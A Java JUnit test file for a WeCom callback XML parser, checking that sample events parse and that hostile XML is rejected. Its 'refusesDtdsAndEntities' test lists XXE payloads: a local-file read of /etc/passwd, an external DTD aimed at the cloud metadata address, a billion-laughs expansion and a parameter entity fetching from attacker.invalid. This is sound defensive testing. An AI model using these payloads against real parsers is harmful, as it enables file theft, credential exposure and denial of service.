package io.siyu.wecom.callback;

import static io.siyu.wecom.callback.CallbackCryptoTest.assertRejected;
import static org.assertj.core.api.Assertions.assertThat;

import io.siyu.testing.Fixtures;
import io.siyu.wecom.callback.CallbackRejected.Check;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CallbackXmlTest {

    @Test
    void readsTheOfficialAddExternalContactSample() {
        CallbackXml.Fields f = CallbackXml.parse(Fixtures.text("wecom/events/add_external_contact.xml"));
        assertThat(f.get("ToUserName")).isEqualTo("toUser");
        assertThat(f.get("CreateTime")).isEqualTo("1403610513");
        assertThat(f.get("ChangeType")).isEqualTo("add_external_contact");
        assertThat(f.get("ExternalUserID")).isEqualTo("woAJ2GCAAAXtWyujaWJHDDGi0mAAAA");
        assertThat(f.get("State")).isEqualTo("teststate");
        assertThat(f.get("WelcomeCode")).isEqualTo("WELCOMECODE");
    }

    @Test
    void memberListItemsBecomeAList() {
        CallbackXml.Fields f = CallbackXml.parse(Fixtures.text("wecom/events/change_external_chat_add_member.xml"));
        assertThat(f.list("MemChangeList")).containsExactly("Jack", "Rose");
        assertThat(f.get("CurMemVer")).isEqualTo("71217227bbd112ecfe3a49c482195cb4");
    }

    @Test
    void plainTextAndCdataAreBothText() {
        CallbackXml.Fields f = CallbackXml.parse("<xml><A>plain</A><B><![CDATA[<not-a-tag>]]></B><C/></xml>");
        assertThat(f.get("A")).isEqualTo("plain");
        assertThat(f.get("B")).isEqualTo("<not-a-tag>");
        assertThat(f.get("C")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            // external entity (XXE): would read a local file
            "<?xml version=\"1.0\"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><xml><A>&xxe;</A></xml>",
            // external DTD
            "<?xml version=\"1.0\"?><!DOCTYPE xml SYSTEM \"http://169.254.169.254/latest/meta-data/\"><xml><A>x</A></xml>",
            // billion laughs
            "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
                    + "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">"
                    + "<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">]><xml><A>&lol4;</A></xml>",
            // parameter entity
            "<!DOCTYPE xml [<!ENTITY % p SYSTEM \"http://attacker.invalid/x.dtd\"> %p;]><xml/>",
            // an undeclared entity without a DTD
            "<xml><A>&undeclared;</A></xml>",
    })
    void refusesDtdsAndEntities(String hostile) {
        assertRejected(() -> CallbackXml.parse(hostile), Check.MALFORMED_XML);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "not xml", "<xml><A>unclosed</xml>", "<xml><A>1</A></xml><xml/>", "<xml><A><B><C>deep</C></B></A></xml>"})
    void refusesMalformedXml(String malformed) {
        assertRejected(() -> CallbackXml.parse(malformed), Check.MALFORMED_XML);
    }

    @Test
    void refusesAFloodOfElements() {
        String flood = "<xml>" + "<A>1</A>".repeat(2000) + "</xml>";
        assertRejected(() -> CallbackXml.parse(flood), Check.MALFORMED_XML);
    }

    @Test
    void predefinedCharacterEntitiesStillWork() {
        assertThat(CallbackXml.parse("<xml><A>a &amp; b &lt; c</A></xml>").get("A")).isEqualTo("a & b < c");
    }
}
